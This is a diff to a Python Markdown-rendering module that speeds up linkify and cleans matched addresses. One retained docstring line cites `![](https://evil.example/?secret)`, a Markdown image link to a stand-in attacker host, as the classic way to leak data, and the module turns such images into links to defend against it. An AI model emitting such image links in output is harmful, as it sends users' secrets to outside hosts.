@@ -7,7 +7,8 @@ becomes a link, since `![](https://evil.example/?secret)` is the classic way to 
 from __future__ import annotations
 
 import re
-from collections.abc import Sequence
+from collections.abc import Callable, Sequence
+from functools import partial
 from html import escape
 from typing import Any, cast
 from urllib.parse import urlsplit
@@ -15,7 +16,7 @@ from urllib.parse import urlsplit
 from markdown_it import MarkdownIt
 from markdown_it.common.utils import escapeHtml
 from markdown_it.renderer import RendererHTML
-from markdown_it.rules_core import StateCore
+from markdown_it.rules_core import StateCore, linkify
 from markdown_it.token import Token
 from mdit_py_plugins.footnote import footnote_plugin
 
@@ -29,7 +30,7 @@ from nbclaude.render.dividing import divided
 from nbclaude.render.highlight import CodeHighlighter
 from nbclaude.render.inline_tags import inline_tags_plugin
 from nbclaude.render.line_references import line_references_plugin
-from nbclaude.render.links import is_safe_link
+from nbclaude.render.links import address_alone, is_safe_link
 from nbclaude.render.listing import Listing
 from nbclaude.render.maths import maths_plugin
 from nbclaude.render.nested_fences import nested_fences_plugin
@@ -60,6 +61,8 @@ def build_parser(
     if md.linkify is not None:
         # "main.py" is a file, not a host in Paraguay.
         md.linkify.set({"fuzzy_link": False, "fuzzy_email": False, "fuzzy_ip": False})
+        md.linkify.match_at_start = partial(_address_at_start, md.linkify.match_at_start)
+        md.core.ruler.at("linkify", _linkify)
     md.use(footnote_plugin, inline=False).use(tasks_plugin).use(maths_plugin, macros)
     md.use(nested_fences_plugin).use(rows_plugin).use(alerts_plugin).use(scripts_plugin).use(
         inline_tags_plugin
@@ -110,6 +113,19 @@ def plain_text(text: str) -> str:
             "".join("\n" if each.type in ("softbreak", "hardbreak") else each.content for each in inner)
         )
     return "\n".join(word for word in words if word)
+
+
+def _linkify(state: StateCore) -> None:
+    """Look for addresses only where one can be: nearly every text has none."""
+    if "//" in state.src or "mailto:" in state.src:
+        linkify(state)
+
+
+def _address_at_start(find: Callable[[str], Any], text: str) -> Any:
+    found = find(text)
+    if found is not None:
+        found.url = address_alone(found.url)
+    return found
 
 
 def _note_links(state: StateCore) -> None:
